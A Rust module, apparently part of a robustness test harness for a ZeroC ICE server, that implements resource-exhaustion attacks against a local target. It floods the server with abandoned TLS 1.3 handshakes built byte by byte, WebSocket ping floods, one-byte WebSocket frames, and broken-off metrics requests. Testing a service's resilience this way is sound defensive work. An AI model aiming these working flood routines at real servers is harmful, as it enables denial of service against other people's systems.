//! Attacks on what carries messages: TLS handshakes, WebSocket frames, and the metrics page.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};

use super::message::request;
use super::target::Target;

/// Handshakes that begin, hundreds at the same time, and that nobody goes on with. The server signs in each of them.
pub(super) async fn handshakes(target: Target) {
    let hello = client_hello();
    while target.lasts() {
        let mut streams = Vec::new();
        for _ in 0..300 {
            if let Some(mut stream) = target.connect(target.ports.ssl).await {
                let _ = stream.write_all(&hello).await;
                streams.push(stream);
            }
        }
        // Some of the answers come before the connections end.
        sleep(Duration::from_millis(20)).await;
    }
}

/// A ClientHello for TLS 1.3 with a key of X25519 (the base point, which is a valid one).
///
/// Source: RFC 8446, 4.1.2.
fn client_hello() -> Vec<u8> {
    let key: [u8; 32] = std::array::from_fn(|at| if at == 0 { 9 } else { 0 });
    let extensions = [
        // supported_versions: TLS 1.3.
        &[0, 43, 0, 3, 2, 3, 4][..],
        // supported_groups: X25519.
        &[0, 10, 0, 4, 0, 2, 0, 29],
        // signature_algorithms: ECDSA with P-256, RSA-PSS, Ed25519.
        &[0, 13, 0, 8, 0, 6, 4, 3, 8, 4, 8, 7],
        // key_share.
        &[0, 51, 0, 38, 0, 36, 0, 29, 0, 32],
        &key,
    ]
    .concat();
    // Version, random, no session, two cipher suites, no compression.
    let mut body = [&[3, 3][..], &[7; 32], &[0, 0, 4, 19, 1, 19, 2, 1, 0]].concat();
    body.extend(be16(extensions.len()));
    body.extend(extensions);
    let mut message = vec![1, 0];
    message.extend(be16(body.len()));
    message.extend(body);
    let mut record = vec![22, 3, 1];
    record.extend(be16(message.len()));
    record.extend(message);
    record
}

fn be16(len: usize) -> [u8; 2] {
    u16::try_from(len).unwrap_or(u16::MAX).to_be_bytes()
}

/// WebSockets that send pings alone.
pub(super) async fn pings(target: Target) {
    const PING: [u8; 6] = [0x89, 0x80, 0, 0, 0, 0];
    web_sockets(target, &[], &PING.repeat(10_000)).await;
}

/// WebSockets that send each byte of their messages in a frame of its own.
pub(super) async fn small_frames(target: Target) {
    let frame = |byte| [0x82, 0x81, 0, 0, 0, 0, byte];
    let frames = |message: Vec<u8>| -> Vec<u8> { message.into_iter().flat_map(frame).collect() };
    let first = frames(target.entry.opening.concat());
    let message = frames(request(0, target.entry.object, "ice_ping", &[]));
    web_sockets(target, &first, &message.repeat(200)).await;
}

/// Opens WebSockets that send one thing first, and then the other again and again.
async fn web_sockets(target: Target, first: &[u8], bytes: &[u8]) {
    const OPENING: &[u8] =
        b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
        Sec-WebSocket-Protocol: ice.zeroc.com\r\nSec-WebSocket-Version: 13\r\n\
        Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    let mut streams = Vec::new();
    for _ in 0..300 {
        if let Some(mut stream) = target.connect(target.ports.ws).await
            && stream.write_all(OPENING).await.is_ok()
            && stream.write_all(first).await.is_ok()
        {
            streams.push(stream);
        }
    }
    if !first.is_empty() {
        // Until they have their sessions.
        sleep(Duration::from_secs(1)).await;
    }
    target.send_to(streams, bytes).await;
}

/// Requests for the metrics page that are broken off.
pub(super) async fn metrics(target: Target) {
    let address = SocketAddr::from(([127, 0, 0, 1], target.ports.metrics));
    let request = format!("GET /metrics HTTP/1.1\r\nHost: {address}\r\n\r\n");
    while target.lasts() {
        if let Some(mut stream) = target.connect(target.ports.metrics).await {
            let _ = stream.write_all(request.as_bytes()).await;
            let _ = timeout(Duration::from_millis(1), stream.read(&mut [0])).await;
        }
    }
}
